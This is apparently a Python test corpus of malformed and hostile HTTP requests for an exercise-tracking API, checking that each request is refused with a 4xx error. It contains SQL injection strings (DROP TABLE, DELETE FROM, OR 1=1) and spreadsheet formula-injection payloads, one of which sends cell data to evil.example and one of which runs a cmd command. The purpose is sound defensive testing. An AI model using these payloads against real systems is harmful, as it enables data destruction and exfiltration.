"""Bad input for real endpoints: every case must get a 4xx problem+json and store nothing.

Each case is one raw HTTP request (bytes on the wire, headers as sent), built without
a client library's help, so malformed JSON, invalid UTF-8 and lying content types
reach the server as they are.
"""

from __future__ import annotations

import base64
import json
import random
from dataclasses import dataclass, field

API = "/api/v1"
JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
TWO_MIB = 2 * 1024 * 1024
DEEP = 10_000


# Valid text that a spreadsheet would run as a formula or command (OWASP, "CSV Injection"):
# stored as sent, exported with a leading quote. Leading tab/CR are stripped as whitespace
# on input; the export helper's unit test covers them.
CSV_FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
)


@dataclass(frozen=True)
class Case:
    name: str
    method: str
    path: str
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)
    signed_in: bool = False


def _cursor(payload: object) -> str:
    return base64.urlsafe_b64encode(_json(payload)).decode().rstrip("=")


def _raw_cursor(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _entry(**overrides: object) -> dict[str, object]:
    body: dict[str, object] = {
        "exercise": "clamshell",
        "set_number": 1,
        "side": "right",
        "reps": 12,
        "hold_seconds": 3,
        "pain": 1,
        "effort": 5,
    }
    body.update(overrides)
    return body


def _session(**overrides: object) -> dict[str, object]:
    body: dict[str, object] = {
        "id": "5f0c8d0e-6a43-4c3b-9a0d-2f7f3b1e9c11",
        "started_at": "2026-11-20T07:30:00+01:00",
        "entries": [_entry()],
    }
    body.update(overrides)
    return body


def _routine(**overrides: object) -> dict[str, object]:
    body: dict[str, object] = {
        "name": "Bad input",
        "items": [{"exercise": "monster-walk", "sets": 2, "steps": 20}],
    }
    body.update(overrides)
    return body


def _json(value: object) -> bytes:
    """Standard-library JSON: it writes integers of any size, as a client may."""
    return json.dumps(value, separators=(",", ":")).encode()


def _replace(body: dict[str, object], key: str, literal: str) -> bytes:
    """JSON with one value replaced by a raw literal (NaN, 1e999, a 400-digit integer...)."""
    marker = "__REPLACE_ME__"
    text = _json({**body, key: marker}).decode()
    return text.replace(f'"{marker}"', literal).encode()


def _entry_with(literal_field: str, literal: str) -> bytes:
    marker = "__REPLACE_ME__"
    text = _json(_session(entries=[_entry(**{literal_field: marker})])).decode()
    return text.replace(f'"{marker}"', literal).encode()


def json_endpoint_cases(
    name: str, path: str, valid: dict[str, object], signed_in: bool
) -> list[Case]:
    """Transport-level abuse that any JSON-taking endpoint must refuse."""
    deep_array = b"[" * DEEP + b"]" * DEEP
    deep_object = b'{"a":' * DEEP + b"1" + b"}" * DEEP
    return [
        Case(f"{name}: malformed JSON", "POST", path, b'{"level": "beginner",', JSON, signed_in),
        Case(f"{name}: truncated JSON", "POST", path, _json(valid)[:-3], JSON, signed_in),
        Case(f"{name}: JSON with a trailing comma", "POST", path, b'{"a": 1,}', JSON, signed_in),
        Case(f"{name}: empty JSON body", "POST", path, b"", JSON, signed_in),
        Case(f"{name}: JSON null", "POST", path, b"null", JSON, signed_in),
        Case(f"{name}: JSON array", "POST", path, b"[]", JSON, signed_in),
        Case(
            f"{name}: text/plain",
            "POST",
            path,
            _json(valid),
            {"Content-Type": "text/plain"},
            signed_in,
        ),
        Case(f"{name}: form content type", "POST", path, _json(valid), FORM, signed_in),
        Case(f"{name}: no content type", "POST", path, _json(valid), {}, signed_in),
        Case(
            f"{name}: 2 MiB body", "POST", path, b'{"x":"' + b"a" * TWO_MIB + b'"}', JSON, signed_in
        ),
        Case(f"{name}: 10,000 nested arrays", "POST", path, deep_array, JSON, signed_in),
        Case(f"{name}: 10,000 nested objects", "POST", path, deep_object, JSON, signed_in),
        Case(f"{name}: invalid UTF-8", "POST", path, b'{"name": "\xff\xfe\xc3"}', JSON, signed_in),
        Case(
            f"{name}: UTF-16 bytes",
            "POST",
            path,
            _json(valid).decode().encode("utf-16"),
            JSON,
            signed_in,
        ),
        Case(
            f"{name}: lone surrogate escape", "POST", path, b'{"name": "\\ud800"}', JSON, signed_in
        ),
        Case(f"{name}: NUL byte", "POST", path, b'{"name": "a\x00b"}', JSON, signed_in),
    ]


def build(session_list_cursor_hint: str | None = None) -> list[Case]:
    """The whole corpus (deterministic)."""
    builder_ok: dict[str, object] = {"level": "intermediate", "minutes": 20}
    register_ok: dict[str, object] = {"email": "new@example.com", "password": "long enough pass"}
    cases: list[Case] = []
    cases += json_endpoint_cases("register", f"{API}/auth/register", register_ok, False)
    cases += json_endpoint_cases("sessions", f"{API}/sessions", _session(), True)
    cases += json_endpoint_cases("routines", f"{API}/routines", _routine(), True)
    cases += json_endpoint_cases("routine-builder", f"{API}/routine-builder", builder_ok, True)

    # Numbers JSON has no business carrying: NaN/Infinity literals, huge integers.
    for literal in (
        "NaN",
        "Infinity",
        "-Infinity",
        "1e999",
        str(10**100),
        "1" * 5000,
        "20.0",
        "true",
        '"20"',
    ):
        cases.append(
            Case(
                f"routine-builder: minutes={literal[:20]}",
                "POST",
                f"{API}/routine-builder",
                _replace(builder_ok, "minutes", literal),
                JSON,
                True,
            )
        )
    for field_name in ("pain", "reps", "set_number", "load_kg"):
        for literal in ("NaN", "Infinity", "-Infinity", str(10**100), "-1"):
            cases.append(
                Case(
                    f"sessions: {field_name}={literal[:20]}",
                    "POST",
                    f"{API}/sessions",
                    _entry_with(field_name, literal),
                    JSON,
                    True,
                )
            )
    cases.append(
        Case(
            "sessions: load_kg=1e-999",
            "POST",
            f"{API}/sessions",
            _entry_with("load_kg", "1e-999"),
            JSON,
            True,
        )
    )
    cases.append(
        Case(
            "routines: sets=10**100",
            "POST",
            f"{API}/routines",
            _json(_routine(items=[{"exercise": "monster-walk", "sets": 10**100, "steps": 20}])),
            JSON,
            True,
        )
    )
    cases.append(
        Case(
            "routines: sessions_per_week=NaN",
            "POST",
            f"{API}/routines",
            _replace(_routine(), "sessions_per_week", "NaN"),
            JSON,
            True,
        )
    )

    # SQL-looking and overlong strings where a slug, email or bounded text is expected.
    sql = "x'); DROP TABLE app_user; --"
    cases += [
        Case(
            "register: SQL in email",
            "POST",
            f"{API}/auth/register",
            _json({**register_ok, "email": sql}),
            JSON,
        ),
        Case(
            "register: overlong email",
            "POST",
            f"{API}/auth/register",
            _json({**register_ok, "email": "a" * 300 + "@example.com"}),
            JSON,
        ),
        Case(
            "register: overlong password",
            "POST",
            f"{API}/auth/register",
            _json({**register_ok, "password": "p" * 100_000}),
            JSON,
        ),
        Case(
            "register: overlong display name",
            "POST",
            f"{API}/auth/register",
            _json({**register_ok, "display_name": "n" * 10_000}),
            JSON,
        ),
        Case(
            "register: lone surrogate in display name",
            "POST",
            f"{API}/auth/register",
            _json({**register_ok, "display_name": "MARK"}).replace(b"MARK", b"a\\ud800b"),
            JSON,
        ),
        Case(
            "sessions: lone surrogate in notes",
            "POST",
            f"{API}/sessions",
            _json(_session(notes="MARK")).replace(b"MARK", b"\\udfff"),
            JSON,
            True,
        ),
        Case(
            "register: SQL time zone",
            "POST",
            f"{API}/auth/register",
            _json({**register_ok, "time_zone": "UTC' OR '1'='1"}),
            JSON,
        ),
        Case(
            "sessions: SQL exercise slug",
            "POST",
            f"{API}/sessions",
            _json(_session(entries=[_entry(exercise="clamshell' OR '1'='1")])),
            JSON,
            True,
        ),
        Case(
            "sessions: unknown exercise",
            "POST",
            f"{API}/sessions",
            _json(_session(entries=[_entry(exercise="drop-table")])),
            JSON,
            True,
        ),
        Case(
            "sessions: overlong notes",
            "POST",
            f"{API}/sessions",
            _json(_session(notes="n" * 5000)),
            JSON,
            True,
        ),
        Case(
            "sessions: overlong entry notes",
            "POST",
            f"{API}/sessions",
            _json(_session(entries=[_entry(notes="n" * 5000)])),
            JSON,
            True,
        ),
        Case(
            "sessions: SQL in id",
            "POST",
            f"{API}/sessions",
            _json(_session(id="1; DELETE FROM workout_session")),
            JSON,
            True,
        ),
        Case(
            "sessions: 501 entries",
            "POST",
            f"{API}/sessions",
            _json(_session(entries=[_entry()] * 501)),
            JSON,
            True,
        ),
        Case(
            "sessions: naive started_at",
            "POST",
            f"{API}/sessions",
            _json(_session(started_at="2026-11-20T07:30:00")),
            JSON,
            True,
        ),
        Case(
            "sessions: year 99999",
            "POST",
            f"{API}/sessions",
            _json(_session(started_at="99999-01-01T00:00:00Z")),
            JSON,
            True,
        ),
        Case(
            "routines: SQL in name",
            "POST",
            f"{API}/routines",
            _json(_routine(name="n" * 200 + "'; DROP TABLE routine; --")),
            JSON,
            True,
        ),
        Case(
            "routines: SQL exercise slug",
            "POST",
            f"{API}/routines",
            _json(_routine(items=[{"exercise": "x' OR 1=1 --", "sets": 1, "reps": 5}])),
            JSON,
            True,
        ),
        Case(
            "routine-builder: SQL equipment",
            "POST",
            f"{API}/routine-builder",
            _json({**builder_ok, "equipment": ["band'; DROP TABLE equipment; --"]}),
            JSON,
            True,
        ),
        Case(
            "routine-builder: unknown level",
            "POST",
            f"{API}/routine-builder",
            _json({**builder_ok, "level": "x" * 10_000}),
            JSON,
            True,
        ),
        Case(
            "routine-builder: minutes=0",
            "POST",
            f"{API}/routine-builder",
            _json({**builder_ok, "minutes": 0}),
            JSON,
            True,
        ),
        Case(
            "routine-builder: minutes=-1",
            "POST",
            f"{API}/routine-builder",
            _json({**builder_ok, "minutes": -1}),
            JSON,
            True,
        ),
    ]

    # Sign-in: only input that fails before any password check (a wrong password would
    # rightly be counted by the login rate limit, which is a write).
    token = f"{API}/auth/token"
    cases += [
        Case(
            "token: JSON instead of a form",
            "POST",
            token,
            _json({"username": "a@example.com", "password": "x"}),
            JSON,
        ),
        Case(
            "token: text/plain",
            "POST",
            token,
            b"username=a&password=b",
            {"Content-Type": "text/plain"},
        ),
        Case("token: 2 MiB form", "POST", token, b"username=" + b"a" * TWO_MIB, FORM),
        Case("token: missing password", "POST", token, b"username=a%40example.com", FORM),
        Case("token: empty form", "POST", token, b"", FORM),
        Case(
            "token: wrong grant_type",
            "POST",
            token,
            b"grant_type=client_credentials&username=a&password=b",
            FORM,
        ),
        Case(
            "token: SQL grant_type",
            "POST",
            token,
            b"grant_type=password'--&username=a&password=b",
            FORM,
        ),
    ]

    # Lists: limits and cursors.
    exercises = f"{API}/exercises"
    for limit in ("0", "-1", "101", str(10**100), "1e3", "NaN", "abc", ""):
        cases.append(Case(f"exercises: limit={limit[:20]}", "GET", f"{exercises}?limit={limit}"))
        cases.append(
            Case(
                f"sessions list: limit={limit[:20]}",
                "GET",
                f"{API}/sessions?limit={limit}",
                signed_in=True,
            )
        )
    bad_cursors = {
        "not base64": "!!!not-base64!!!",
        "base64 of junk": _raw_cursor(b"\xff\xfe\x00junk"),
        "JSON but a list": _cursor([1, 2, 3]),
        "another sort's cursor": _cursor({"s": "name", "v": "Clamshell", "i": "1"}),
        "huge id": _cursor({"s": "catalog_order", "v": 10**30, "i": str(10**30)}),
        "huge id as text": _cursor({"s": "catalog_order", "v": 1, "i": "9" * 400}),
        "float id": _cursor({"s": "catalog_order", "v": 1, "i": "1.5"}),
        "boolean value": _cursor({"s": "catalog_order", "v": True, "i": "1"}),
        "object value": _cursor({"s": "catalog_order", "v": {"a": 1}, "i": "1"}),
        "missing keys": _cursor({"s": "catalog_order"}),
        "overlong": "A" * 600,
        "NUL": "%00",
    }
    for label, cursor in bad_cursors.items():
        cases.append(Case(f"exercises: cursor {label}", "GET", f"{exercises}?cursor={cursor}"))
    sorted_by_name = {
        "name with huge value": _cursor({"s": "name", "v": 10**30, "i": "1"}),
        "difficulty with huge value": _cursor({"s": "difficulty", "v": 10**30, "i": "1"}),
        "updated_at not a date": _cursor({"s": "updated_at", "v": "yesterday", "i": "1"}),
        "updated_at naive": _cursor({"s": "updated_at", "v": "2026-01-01T00:00:00", "i": "1"}),
    }
    for label, cursor in sorted_by_name.items():
        sort = label.split(" ", 1)[0]
        cases.append(
            Case(f"exercises: cursor {label}", "GET", f"{exercises}?sort={sort}&cursor={cursor}")
        )
    session_cursors = {
        "naive started_at": _cursor(
            {
                "s": "-started_at",
                "v": "2026-01-01T00:00:00",
                "i": "5f0c8d0e-6a43-4c3b-9a0d-2f7f3b1e9c11",
            }
        ),
        "bad uuid": _cursor({"s": "-started_at", "v": "2026-01-01T00:00:00Z", "i": "nope"}),
        "year 0": _cursor({"s": "-started_at", "v": "0000-01-01T00:00:00Z", "i": "x"}),
        "number as date": _cursor({"s": "-started_at", "v": 12, "i": "x"}),
    }
    for label, cursor in session_cursors.items():
        cases.append(
            Case(
                f"sessions list: cursor {label}",
                "GET",
                f"{API}/sessions?cursor={cursor}",
                signed_in=True,
            )
        )
    cases += [
        Case("exercises: SQL sort", "GET", f"{exercises}?sort=name;DROP%20TABLE%20exercise"),
        Case("exercises: SQL equipment", "GET", f"{exercises}?equipment=x'%20OR%201=1"),
        Case("exercises: overlong q", "GET", f"{exercises}?q={'q' * 5000}"),
        Case("exercises: unknown position", "GET", f"{exercises}?position=upside-down"),
        Case("exercises: invalid UTF-8 in q", "GET", f"{exercises}?q=%FF%FE"),
        Case("exercises: invalid UTF-8 in slug", "GET", f"{exercises}/%FF%FE"),
        Case("exercises: overlong slug", "GET", f"{exercises}/{'s' * 500}"),
        Case("exercises: SQL slug", "GET", f"{exercises}/clamshell'%20OR%20'1'='1"),
        Case(
            "sessions list: naive updated_since",
            "GET",
            f"{API}/sessions?updated_since=2026-01-01T00:00:00",
            signed_in=True,
        ),
        Case(
            "sessions list: huge year",
            "GET",
            f"{API}/sessions?from=99999-01-01T00:00:00Z",
            signed_in=True,
        ),
    ]
    cases += hostile_text_and_time_cases()
    return cases


OVERFLOWING_TIMES = ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00")


def _escaped_nul(body: dict[str, object]) -> bytes:
    """JSON with every MARK replaced by the escape `\\u0000` (valid JSON, NUL once parsed)."""
    return _json(body).replace(b"MARK", b"a\\u0000b")


def hostile_text_and_time_cases() -> list[Case]:
    """Issue #11: NUL and controls in text, times that overflow in UTC, bodies built to
    make enormous error lists, and routines that would take thousands of hours."""
    sessions, routines = f"{API}/sessions", f"{API}/routines"
    cases = [
        Case(
            "sessions: escaped NUL in notes",
            "POST",
            sessions,
            _escaped_nul(_session(notes="MARK")),
            JSON,
            True,
        ),
        Case(
            "sessions: escaped NUL in entry notes",
            "POST",
            sessions,
            _escaped_nul(_session(entries=[_entry(notes="MARK")])),
            JSON,
            True,
        ),
        Case(
            "sessions: escape character in notes",
            "POST",
            sessions,
            _json(_session(notes="MARK")).replace(b"MARK", b"\\u001b[31m"),
            JSON,
            True,
        ),
        Case(
            "routines: escaped NUL in name",
            "POST",
            routines,
            _escaped_nul(_routine(name="MARK")),
            JSON,
            True,
        ),
        Case(
            "register: escaped NUL in display name",
            "POST",
            f"{API}/auth/register",
            _escaped_nul(
                {"email": "nul@example.com", "password": "long enough pass", "display_name": "MARK"}
            ),
            JSON,
        ),
        Case(
            "token: NUL in username",
            "POST",
            f"{API}/auth/token",
            b"username=a%00%40example.com&password=long+enough+pass",
            FORM,
        ),
        Case("exercises: NUL in q", "GET", f"{API}/exercises?q=clam%00shell"),
        Case("exercises: C1 control in q", "GET", f"{API}/exercises?q=%C2%85"),
        Case(
            "progress: days in year 9999",
            "GET",
            f"{API}/me/progress?from=9999-12-20&to=9999-12-31",
            signed_in=True,
        ),
        Case(
            "progress: days in year 1",
            "GET",
            f"{API}/me/progress?from=0001-01-01&to=0001-01-02",
            signed_in=True,
        ),
        Case(
            "routines: 30 items of 10 x 100 reps with 300 s holds",
            "POST",
            routines,
            _json(
                _routine(
                    items=[
                        {
                            "exercise": "clamshell",
                            "sets": 10,
                            "reps": 100,
                            "hold_seconds": 300,
                            "side": "both",
                        }
                    ]
                    * 30
                )
            ),
            JSON,
            True,
        ),
    ]
    for when in OVERFLOWING_TIMES:
        quoted = when.replace("+", "%2B")
        cases += [
            Case(
                f"exercises: updated_since={when}", "GET", f"{API}/exercises?updated_since={quoted}"
            ),
            Case(
                f"sessions list: from={when}",
                "GET",
                f"{sessions}?from={quoted}",
                signed_in=True,
            ),
            Case(
                f"sessions: started_at={when}",
                "POST",
                sessions,
                _json(_session(started_at=when, ended_at=None)),
                JSON,
                True,
            ),
            Case(
                f"exercises: cursor at {when}",
                "GET",
                f"{API}/exercises?sort=updated_at&cursor="
                + _cursor({"s": "updated_at", "v": when, "i": "1"}),
            ),
            Case(
                f"sessions list: cursor at {when}",
                "GET",
                f"{sessions}?cursor="
                + _cursor(
                    {"s": "-started_at", "v": when, "i": "5f0c8d0e-6a43-4c3b-9a0d-2f7f3b1e9c11"}
                ),
                signed_in=True,
            ),
        ]
    # A mebibyte of nested lists inside valid JSON: every list bounded, every error list cut.
    room = (1024 * 1024 - 4096) // (12 * 2 * len("{}, "))
    week = {"week": 1, "changes": [{}] * room, "items": [{}] * room, "estimated_seconds": 0}
    cases.append(
        Case(
            "routines: a mebibyte of empty objects in the progression",
            "POST",
            routines,
            _json(_routine(progression=[week] * 12)),
            JSON,
            True,
        )
    )
    nested = [[[[[]] * 8] * 8] * 8] * 60
    cases.append(
        Case(
            "routines: nested lists where strings belong",
            "POST",
            routines,
            _json(_routine(rationale=nested, unmet=nested)),
            JSON,
            True,
        )
    )
    return cases


def junk(seed: int, count: int) -> list[Case]:
    """Random bodies for the soak form: random bytes and random deep/odd JSON fragments."""
    rng = random.Random(seed)
    paths = [f"{API}/auth/register", f"{API}/sessions", f"{API}/routines", f"{API}/routine-builder"]
    pieces = [
        b"{",
        b"}",
        b"[",
        b"]",
        b'"',
        b":",
        b",",
        b"NaN",
        b"1e999",
        b"\\u0000",
        b"\xff",
        b"null",
        b"-",
        b"9" * 50,
        b"true",
        b'"entries"',
        b'"minutes"',
    ]
    out = []
    for n in range(count):
        if n % 2:
            body = bytes(rng.getrandbits(8) for _ in range(rng.randrange(1, 400)))
        else:
            body = b"".join(rng.choice(pieces) for _ in range(rng.randrange(1, 300)))
        path = paths[n % len(paths)]
        out.append(Case(f"junk #{n} to {path}", "POST", path, body, JSON, signed_in=n % 4 != 0))
    return out
